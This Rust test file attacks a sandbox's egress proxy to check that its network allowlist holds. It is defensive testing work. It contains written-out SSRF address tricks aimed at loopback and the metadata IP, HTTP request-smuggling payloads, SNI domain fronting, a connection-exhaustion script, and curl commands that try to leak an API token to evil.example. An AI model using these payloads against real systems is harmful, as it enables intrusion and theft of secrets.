//! Hostile review of the egress proxy: a command with a network allowlist
//! tries to reach what the allowlist does not permit, to front another
//! site behind an allowed one, to make the egress report lie or bloat, to
//! exhaust the root daemon's proxy, and to leak a secret through it. Every
//! attempt is checked on the host side: canary listeners on host loopback
//! that must accept nothing, an upstream that records every byte it got.

mod common;
use common::net::{accepted, canary_listener, egress};
use common::*;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A host loopback server that keeps every byte each connection sent; an
/// HTTP request gets a small 200 answer.
struct Recorder {
    port: u16,
    conns: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl Recorder {
    fn start() -> Recorder {
        Recorder::on(TcpListener::bind("127.0.0.1:0").unwrap())
    }

    fn on(l: TcpListener) -> Recorder {
        let port = l.local_addr().unwrap().port();
        let conns = Arc::new(Mutex::new(Vec::new()));
        let all = conns.clone();
        std::thread::spawn(move || {
            for c in l.incoming() {
                let Ok(mut c) = c else { continue };
                let all = all.clone();
                std::thread::spawn(move || {
                    c.set_read_timeout(Some(Duration::from_secs(4))).unwrap();
                    let mut got = Vec::new();
                    let mut buf = [0u8; 4096];
                    let mut answer = false;
                    loop {
                        match c.read(&mut buf) {
                            Ok(0) | Err(_) => break,
                            Ok(n) => got.extend_from_slice(&buf[..n]),
                        }
                        if got.windows(4).any(|w| w == b"\r\n\r\n") {
                            answer = true;
                            break;
                        }
                    }
                    // Recorded before the answer goes out, so requests a
                    // client sends one after another's answer keep their order.
                    all.lock().unwrap().push(got);
                    if answer {
                        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n");
                    }
                });
            }
        });
        Recorder { port, conns }
    }

    /// Every connection's bytes (after the proxy closed them all).
    fn received(&self) -> Vec<Vec<u8>> {
        std::thread::sleep(Duration::from_millis(500));
        self.conns.lock().unwrap().clone()
    }

    /// `REQUEST-LINE host=HOST` of each HTTP request received.
    fn requests(&self) -> Vec<String> {
        self.received()
            .iter()
            .filter(|b| !b.is_empty() && b[0] != 0x16)
            .map(|b| {
                let t = String::from_utf8_lossy(b);
                let host = t
                    .lines()
                    .find(|l| l.to_ascii_lowercase().starts_with("host:"))
                    .map(|l| l[5..].trim().to_string())
                    .unwrap_or_default();
                format!("{} host={host}", t.lines().next().unwrap_or(""))
            })
            .collect()
    }
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// Python run in the sandbox: `req(bytes)` sends one raw request to the
/// proxy and returns its status line; `tunnel(target)` opens a CONNECT.
const PRELUDE: &str = r#"
import socket, struct, sys
def req(data, timeout=5):
    s = socket.create_connection(('127.0.0.1', 3128), timeout)
    s.sendall(data)
    got = b''
    try:
        while b'\r\n\r\n' not in got:
            b = s.recv(65536)
            if not b: break
            got += b
    except OSError as e:
        got += str(e).encode()
    s.close()
    return got.split(b'\r\n', 1)[0].decode('latin1')
def connect(target):
    return req(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
def tunnel(target):
    s = socket.create_connection(('127.0.0.1', 3128), 5)
    s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
    h = b''
    while b'\r\n\r\n' not in h:
        b = s.recv(1)
        if not b: break
        h += b
    assert h.startswith(b'HTTP/1.1 200'), h
    return s
"#;

fn python(body: &str) -> String {
    format!("python3 -c {}", sq(&format!("{PRELUDE}{body}")))
}

#[test]
fn address_and_name_tricks_never_reach_host_services() {
    for who in identities() {
        let up = Recorder::start();
        let (can, c) = canary_listener();
        let u = up.port;
        let ws = Ws::new(who);
        let script = format!(
            r#"
for t in ['127.0.0.1:{c}', '[::1]:{c}', '[::ffff:127.0.0.1]:{c}', '[::ffff:7f00:1]:{c}',
          '2130706433:{c}', '0x7f000001:{c}', '0177.0.0.1:{c}', '127.1:{c}', 'localhost:{c}',
          'LOCALHOST.:{c}', '169.254.169.254:80', '10.0.0.1:{c}', '[fd00::1]:{c}', '[fe80::1]:{c}',
          'pkgs.example:{c}', 'PKGS.EXAMPLE.:{c}', 'evil-pkgs.example:{c}', 'pkgs.example.evil.example:{c}',
          'mirror.example:{c}', 'evilmirror.example:{c}', 'a.mirror.example:{c}', 'a..mirror.example:{u}']:
    print('CONNECT', t, '->', connect(t))
for url, host in [('http://127.0.0.1:{c}/', 'pkgs.example:{u}'),
                  ('http://pkgs.example:{u}@127.0.0.1:{c}/', 'pkgs.example:{u}'),
                  ('http://[::ffff:127.0.0.1]:{c}/', 'pkgs.example:{u}'),
                  ('http://2130706433:{c}/', 'pkgs.example:{u}'),
                  ('http://evil-pkgs.example:{c}/', 'pkgs.example:{u}'),
                  ('https://pkgs.example:{u}/', 'pkgs.example:{u}')]:
    print('GET', url, '->', req(('GET %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (url, host)).encode()))
print('ORIGIN ->', req(b'GET / HTTP/1.1\r\nHost: 127.0.0.1:{c}\r\n\r\n'))
print('OK ->', req(b'GET http://pkgs.example:{u}/ok HTTP/1.1\r\nHost: 127.0.0.1:{c}\r\n\r\n'))
print('OK ->', req(b'GET http://user:pw@PKGS.example.:{u}/userinfo HTTP/1.1\r\nHost: x\r\n\r\n'))
"#
        );
        let mut args = vec![
            "--allow-net".to_string(),
            format!("pkgs.example:{u}"),
            "--allow-net".into(),
            format!("*.mirror.example:{u}"),
            "--egress-resolve".into(),
            format!("pkgs.example:{u}:127.0.0.1"),
        ];
        // The system pins every trick name to the canary: only the
        // allowlist (by name and port) stands between them.
        for n in [
            "pkgs.example",
            "evil-pkgs.example",
            "pkgs.example.evil.example",
            "mirror.example",
            "evilmirror.example",
            "a.mirror.example",
        ] {
            args.push("--egress-resolve".into());
            args.push(format!("{n}:{c}:127.0.0.1"));
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = ws.rehearse_untouched(&python(&script), &args);
        assert_ran(who, &r);
        assert_eq!(accepted(&can), 0, "{who:?}: {}", r.out());
        for line in r.out().lines().filter(|l| !l.starts_with("OK")) {
            assert!(!line.contains(" 200 "), "{who:?}: {line}");
        }
        assert_eq!(
            up.requests(),
            vec![
                format!("GET /ok HTTP/1.1 host=pkgs.example:{u}"),
                format!("GET /userinfo HTTP/1.1 host=pkgs.example:{u}"),
            ],
            "{who:?}: only the allowed name, with its own Host and no user part"
        );
        assert_eq!(r.decision(), "blocked", "{who:?}");
        let e = egress(&r);
        for name in ["127.0.0.1", "2130706433", "localhost", "evil-pkgs.example"] {
            assert!(
                e.iter()
                    .any(|x| x["name"] == name && x["allowed"] == false && x["how"] == "proxy"),
                "{who:?}: {name}: {e:?}"
            );
        }
    }
    // Numeric notations are refused in the allowlist itself.
    let ws = Ws::new(Who::User);
    for bad in [
        "2130706433",
        "0x7f000001:80",
        "127.1",
        "[::ffff:127.0.0.1]:80",
    ] {
        let r = ws.rehearse("true", &["--allow-net", bad]);
        assert_eq!(r.code, 2, "{bad}: {r:?}");
        assert!(r.stderr.contains("IP address"), "{bad}: {}", r.stderr);
    }
}

#[test]
fn keep_alive_pipelining_and_smuggling_cannot_switch_destination() {
    for who in identities() {
        let up = Recorder::start();
        let (can, c) = canary_listener();
        let u = up.port;
        let ws = Ws::new(who);
        let script = format!(
            r#"
s = socket.create_connection(('127.0.0.1', 3128), 5)
s.sendall(b'GET http://pkgs.example:{u}/first HTTP/1.1\r\nHost: pkgs.example:{u}\r\n\r\n'
          b'GET http://127.0.0.1:{c}/second HTTP/1.1\r\nHost: pkgs.example:{u}\r\n\r\n'
          b'POST http://pkgs.example:{u}/smuggle HTTP/1.1\r\nHost: pkgs.example:{u}\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n'
          b'0\r\n\r\nGET http://127.0.0.1:{c}/smuggled HTTP/1.1\r\nHost: x\r\n\r\n'
          b'CONNECT 127.0.0.1:{c} HTTP/1.1\r\nHost: x\r\n\r\n'
          b'GET http://pkgs.example:{u}/last HTTP/1.1\r\nHost: pkgs.example:{u}\r\nConnection: close\r\n\r\n')
got = b''
try:
    while True:
        b = s.recv(65536)
        if not b: break
        got += b
except OSError: pass
import re
print('STATUSES', [m.decode() for m in re.findall(rb'HTTP/1\.1 \d\d\d', got)])
t = tunnel('pkgs.example:{u}')
t.sendall(b'GET http://127.0.0.1:{c}/in-tunnel HTTP/1.1\r\nHost: 127.0.0.1:{c}\r\n\r\n')
print('tunnel ->', t.recv(100))
"#
        );
        let r = ws.rehearse_untouched(
            &python(&script),
            &[
                "--allow-net",
                &format!("pkgs.example:{u}"),
                "--egress-resolve",
                &format!("pkgs.example:{u}:127.0.0.1"),
                "--egress-resolve",
                &format!("x:{c}:127.0.0.1"),
            ],
        );
        assert_ran(who, &r);
        assert_eq!(accepted(&can), 0, "{who:?}: {}", r.out());
        // The pipelined requests were each answered: the allowed ones by
        // the upstream, the others refused by the proxy.
        let statuses = r.out().lines().next().unwrap_or("").to_string();
        assert!(
            statuses.contains("200") && statuses.contains("403"),
            "{who:?}: {}",
            r.out()
        );
        let seen = up.requests();
        assert!(
            seen.iter().any(|s| s.starts_with("GET /first ")),
            "{who:?}: {seen:?}"
        );
        // Whatever reached the upstream went to the allowed name: the
        // in-tunnel request is bytes to pkgs.example, not a new destination.
        for s in &seen {
            assert!(
                s.ends_with(&format!("host=pkgs.example:{u}")) || s.contains("/in-tunnel "),
                "{who:?}: {s}"
            );
        }
        assert!(
            !seen
                .iter()
                .any(|s| s.contains("/second ") || s.contains("/smuggled "))
        );
        assert_eq!(
            r.decision(),
            "blocked",
            "{who:?}: {} {:?}",
            r.out(),
            egress(&r)
        );
    }
}

/// A ClientHello with the given server names, split into records of
/// `chunk` bytes (Python, in the sandbox).
const HELLO: &str = r#"
def hello(names, chunk=4000, ech=False):
    ext = b''
    for n in names:
        entry = b'\x00' + struct.pack('>H', len(n)) + n
        d = struct.pack('>H', len(entry)) + entry
        ext += struct.pack('>HH', 0, len(d)) + d
    if ech: ext += struct.pack('>HH', 0xfe0d, 1) + b'\x01'
    body = b'\x03\x03' + b'\x07' * 32 + b'\x00' + b'\x00\x02\x13\x01' + b'\x01\x00' + struct.pack('>H', len(ext)) + ext
    hs = b'\x01' + struct.pack('>I', len(body))[1:] + body
    out = b''
    for i in range(0, len(hs), chunk):
        c = hs[i:i + chunk]
        out += b'\x16\x03\x01' + struct.pack('>H', len(c)) + c
    return out
def send_hello(label, target, data):
    s = tunnel(target)
    s.settimeout(2)
    s.sendall(data)
    try:
        r = s.recv(10)
        print(label, 'closed' if not r else 'answered')
    except OSError as e:
        print(label, 'open', type(e).__name__)
"#;

#[test]
fn a_tunnel_whose_tls_server_name_is_another_host_is_refused() {
    for who in identities() {
        let up = Recorder::start();
        let u = up.port;
        let ws = Ws::new(who);
        let t = format!("pkgs.example:{u}");
        let script = format!(
            r#"{HELLO}
import ssl
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
for sni in ['evil.example', 'pkgs.example']:
    s = tunnel('{t}'); s.settimeout(2)
    try:
        ctx.wrap_socket(s, server_hostname=sni); print('ssl', sni, 'handshake')
    except OSError as e:
        print('ssl', sni, type(e).__name__)
send_hello('fragmented', '{t}', hello([b'evil.example'], chunk=1))
send_hello('two-names', '{t}', hello([b'pkgs.example', b'evil.example']))
send_hello('ech', '{t}', hello([b'pkgs.example'], ech=True))
send_hello('ansi', '{t}', hello([b'\x1b[31mred.example']))
send_hello('huge', '{t}', hello([b'h' * 60000]))
send_hello('same', '{t}', hello([b'PKGS.Example.']))
send_hello('same-fragmented', '{t}', hello([b'pkgs.example'], chunk=7))
send_hello('none', '{t}', hello([]))
"#
        );
        let r = ws.rehearse_untouched(
            &python(&script),
            &[
                "--allow-net",
                &t,
                "--egress-resolve",
                &format!("pkgs.example:{u}:127.0.0.1"),
            ],
        );
        assert_ran(who, &r);
        let got = up.received();
        for bad in [&b"evil.example"[..], b"red.example", b"hhhhhhhhhhhhhhhh"] {
            assert!(
                !got.iter().any(|c| contains(c, bad)),
                "{who:?}: {} reached the upstream: {}",
                String::from_utf8_lossy(bad),
                r.out()
            );
        }
        // The ClientHellos that name the tunnel's own host (or none) went
        // through: python's, ours whole and in 7-byte records, none.
        let tls: Vec<_> = got.iter().filter(|c| c.first() == Some(&0x16)).collect();
        assert!(
            tls.iter().any(|c| contains(c, b"pkgs.example")),
            "{who:?}: {} {} {:?}",
            r.out(),
            r.err(),
            egress(&r)
        );
        assert!(
            tls.iter().any(|c| contains(c, b"PKGS.Example.")),
            "{who:?}: {} {:?} {:?}",
            r.out(),
            egress(&r),
            got.iter().map(|c| c.len()).collect::<Vec<_>>()
        );
        assert_eq!(tls.len(), 4, "{who:?}: {}", r.out());
        assert_eq!(r.decision(), "blocked", "{who:?}");
        let e = egress(&r);
        let evil = e
            .iter()
            .find(|x| x["name"] == "evil.example")
            .unwrap_or_else(|| panic!("{e:?}"));
        assert_eq!(evil["allowed"], false);
        assert!(
            evil["reason"].as_str().unwrap().contains("domain fronting"),
            "{evil}"
        );
        let own = e
            .iter()
            .find(|x| x["name"] == "pkgs.example")
            .unwrap_or_else(|| panic!("{e:?}"));
        assert_eq!(own["allowed"], false, "ECH / two names refused: {own}");
        for x in &e {
            let n = x["name"].as_str().unwrap();
            assert!(n.len() < 120 && !n.chars().any(|c| c.is_control()), "{n:?}");
        }
        assert!(e.iter().any(|x| x["name"] == "?[31mred.example"), "{e:?}");
        assert!(
            r.reasons()
                .iter()
                .any(|x| x.contains("evil.example") && x.contains("SNI")),
            "{:?}",
            r.reasons()
        );
    }
}

#[test]
fn a_tunnel_to_port_443_must_begin_with_a_tls_client_hello() {
    if !require_root() {
        return;
    }
    // Nothing else in the suite binds it: in use is another program's.
    let l = TcpListener::bind("127.0.0.1:443").unwrap_or_else(|e| {
        panic!("binding host loopback port 443 for the stand-in: {e} (stop what holds it)")
    });
    let up = Recorder::on(l);
    for who in identities() {
        let ws = Ws::new(who);
        let script = format!(
            r#"{HELLO}
s = tunnel('pkgs.example:443'); s.settimeout(2)
s.sendall(b'GET / HTTP/1.1\r\nHost: other.example\r\n\r\n')
try: print('plain ->', s.recv(100))
except OSError as e: print('plain', e)
send_hello('tls', 'pkgs.example:443', hello([b'pkgs.example']))
"#
        );
        let r = ws.rehearse_untouched(
            &python(&script),
            &[
                "--allow-net",
                "pkgs.example:443",
                "--egress-resolve",
                "pkgs.example:443:127.0.0.1",
            ],
        );
        assert_ran(who, &r);
        assert!(r.out().contains("plain -> b''"), "{who:?}: {}", r.out());
        let e = egress(&r);
        let p = e
            .iter()
            .find(|x| x["name"] == "pkgs.example")
            .unwrap_or_else(|| panic!("{e:?}"));
        assert_eq!(p["allowed"], false, "{p}");
        assert!(
            p["reason"].as_str().unwrap().contains("TLS ClientHello"),
            "{p}"
        );
    }
    let got = up.received();
    assert!(
        !got.iter().any(|c| contains(c, b"other.example")),
        "{got:?}"
    );
    assert_eq!(
        got.iter().filter(|c| c.first() == Some(&0x16)).count(),
        identities().len(),
        "the TLS tunnels went through"
    );
}

#[test]
fn the_egress_report_stays_bounded_printable_and_never_promotes_a_hidden_refusal() {
    let ws = Ws::new(Who::User);
    // Fill the report's 256 entries with allowed lookups, then try a
    // refused destination: unlisted, it must still block the run, and the
    // run cannot be promoted.
    let script = r#"
for i in range(300):
    try: socket.gethostbyname('a%d.mirror.example' % i)
    except OSError: pass
print('late ->', connect('evil.example:80'))
open('out.txt', 'w').write('x')
"#;
    let r = ws.rehearse_untouched(
        &python(script),
        &[
            "--allow-net",
            "*.mirror.example",
            "--expect-write",
            "out.txt",
        ],
    );
    assert_ran(Who::User, &r);
    assert!(egress(&r).len() <= 256);
    assert!(
        egress(&r).iter().all(|x| x["allowed"] == true),
        "listed: allowed only"
    );
    assert_eq!(r.decision(), "blocked", "{:?}", r.reasons());
    assert!(
        r.reasons().iter().any(|x| x.contains("more destinations")),
        "{:?}",
        r.reasons()
    );
    let id = r.json["run_id"].as_str().unwrap().to_string();
    let mut c = ws.command();
    let p = c.args(["promote", &id]).output().unwrap();
    assert!(!p.status.success(), "a blocked run promoted");
    assert!(!ws.dir.join("out.txt").exists());

    // Huge names, terminal escapes, a huge head and many names: the
    // record stays small and printable.
    let script = r#"
print('huge ->', connect('h' * 50000 + '.example:80'))
print('head ->', req(b'GET http://pkgs.example/ HTTP/1.1\r\nX: ' + b'a' * 200000 + b'\r\n\r\n'))
print('ansi ->', connect('\x1b[2J.example:80'))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b'\x05\x1b[31m\x07example\x00\x00\x01\x00\x01'
u.sendto(q, ('127.0.0.1', 53)); u.settimeout(2)
try: print('dns ->', len(u.recv(512)))
except OSError as e: print('dns', e)
for i in range(600):
    connect('e%d.evil.example:80' % i)
print('done')
"#;
    let r = ws.rehearse_untouched(&python(script), &["--allow-net", "pkgs.example"]);
    assert_ran(Who::User, &r);
    assert!(r.out().contains("done"), "{}", r.out());
    assert!(r.out().contains("head -> HTTP/1.1 431"), "{}", r.out());
    assert_eq!(r.decision(), "blocked");
    let e = egress(&r);
    assert!(e.len() <= 256, "{}", e.len());
    for x in &e {
        let n = x["name"].as_str().unwrap();
        assert!(n.len() < 120, "{n:?}");
        assert!(!n.chars().any(|c| c.is_control()), "{n:?}");
    }
    assert!(
        e.iter()
            .any(|x| x["name"].as_str().unwrap().ends_with("(50008 bytes)")),
        "{e:?}"
    );
    assert!(!r.stdout.contains('\u{1b}') && !r.stdout.contains("\\u001b"));
    assert!(r.stdout.len() < 1_000_000, "{} bytes", r.stdout.len());
}

#[test]
fn a_direct_connection_gives_one_reason_per_destination() {
    for who in identities() {
        let ws = Ws::new(who);
        let script = r#"
a = socket.gethostbyname('secret.attacker.example')
for t in [(a, 443), ('10.1.2.3', 80), (a, 443)]:
    try: socket.create_connection(t, 2)
    except OSError as e: print('refused', t, e)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: u.sendto(b'x', ('10.1.2.3', 80))
except OSError as e: print('udp', e)
"#;
        let r = ws.rehearse_untouched(&python(script), &["--allow-net", "pkgs.example"]);
        assert_ran(who, &r);
        assert_eq!(r.decision(), "blocked");
        let reasons = r.reasons();
        let about = |s: &str| reasons.iter().filter(|x| x.contains(s)).count();
        assert_eq!(about("secret.attacker.example:443"), 1, "{reasons:?}");
        assert_eq!(about("10.1.2.3:80"), 1, "{reasons:?}");
        let one = reasons
            .iter()
            .find(|x| x.contains("secret.attacker.example:443"))
            .unwrap();
        assert!(one.contains("direct") && one.contains("198.18."), "{one}");
        for b in r.blocked() {
            let d = b["detail"].as_str().unwrap();
            assert!(!d.contains("198.18.") && !d.contains("10.1.2.3"), "{d}");
        }
    }
}

#[test]
fn a_secret_never_reaches_an_upstream_or_the_record_through_the_proxy() {
    let up = Recorder::start();
    let u = up.port;
    let ws = Ws::new(Who::User);
    let secret = "zq9proxysecretvalue7373";
    let f = ws.root.path().join("leak.yaml");
    let cmd = format!(
        "curl -sS -H \"Proxy-Authorization: Basic $API_TOKEN\" http://pkgs.example:{u}/a; \
         curl -sS http://$API_TOKEN.evil.example/; curl -sS --proxytunnel http://$API_TOKEN.evil.example:443/; \
         curl -sS http://pkgs.example:{u}@$API_TOKEN.evil.example/; true"
    );
    std::fs::write(
        &f,
        format!(
            "command: {}\nenv: {{API_TOKEN: {secret}}}\nintent: {{network: {{allow: ['pkgs.example:{u}']}}}}\n",
            serde_json::to_string(&cmd).unwrap()
        ),
    )
    .unwrap();
    ws.chown_all();
    let r = ws.execute(&[
        "--file",
        f.to_str().unwrap(),
        "--egress-resolve",
        &format!("pkgs.example:{u}:127.0.0.1"),
    ]);
    assert_ran(Who::User, &r);
    assert_eq!(r.decision(), "blocked");
    let got = up.received();
    assert_eq!(got.len(), 1, "only the allowed request");
    assert!(
        !contains(&got[0], secret.as_bytes()),
        "Proxy-Authorization forwarded"
    );
    assert!(!r.stdout.contains(secret), "{}", r.stdout);
    assert!(!r.stderr.contains(secret), "{}", r.stderr);
    assert!(
        egress(&r)
            .iter()
            .any(|x| x["name"].as_str().unwrap().contains("[redacted:"))
    );
}

#[test]
fn thousands_of_connections_spare_the_daemon_and_other_runs() {
    use common::daemon::{Daemon, health_ok, require_root, submit_user, user_workspace};
    if !require_root() {
        return;
    }
    let up = Recorder::start();
    let u = up.port;
    let pin = format!("pkgs.example:{u}:127.0.0.1");
    let d = Daemon::start(&["--egress-resolve", &pin]);
    let pid = d.child.as_ref().unwrap().id();
    let fds = move || std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count());
    let base = fds();
    let host = format!("pkgs.example:{u}");
    let attack = format!(
        r#"
import resource, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
for i in range(1500):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(('127.0.0.1', 3128))
    except BlockingIOError: pass
    except OSError as e: print('stop', i, e); break
    held.append(s)
time.sleep(1)
for s in held[:300]:
    try: s.send(b'GET http://{host}/slow HTTP/1.1\r\nX-Slow: ')
    except OSError: pass
time.sleep(6)
print('held', len(held))
"#
    );
    let attacker = user_workspace();
    let victim = user_workspace();
    let (d, attacker, victim) = (Arc::new(d), Arc::new(attacker), Arc::new(victim));
    let (d2, host2) = (d.clone(), host.clone());
    let a = std::thread::spawn(move || {
        submit_user(
            &d2,
            &attacker,
            &python(&attack),
            &["--allow-net", &host2, "--timeout", "60"],
        )
    });
    let mut peak = 0;
    let mut victim_run = None;
    for i in 0.. {
        peak = peak.max(fds());
        if i == 20 {
            let (d3, v, h) = (d.clone(), victim.clone(), host.clone());
            victim_run = Some(std::thread::spawn(move || {
                submit_user(
                    &d3,
                    &v,
                    &format!("curl -sS -o got.txt http://{h}/victim"),
                    &["--allow-net", &h, "--expect-write", "got.txt"],
                )
            }));
        }
        if a.is_finished() && i > 20 {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let ar = a.join().unwrap();
    assert!(ar.out().contains("held"), "{ar:?}");
    let vr = victim_run.unwrap().join().unwrap();
    assert_eq!(vr.exit_code(), Some(0), "{vr:?}");
    assert!(vr.change("got.txt").is_some(), "{:?}", vr.changes());
    assert!(up.requests().iter().any(|s| s.starts_with("GET /victim ")));
    assert!(health_ok(&d.socket), "the daemon answers");
    assert!(
        peak < base + 400,
        "the daemon held {peak} descriptors (from {base}) for one run's connections"
    );
}
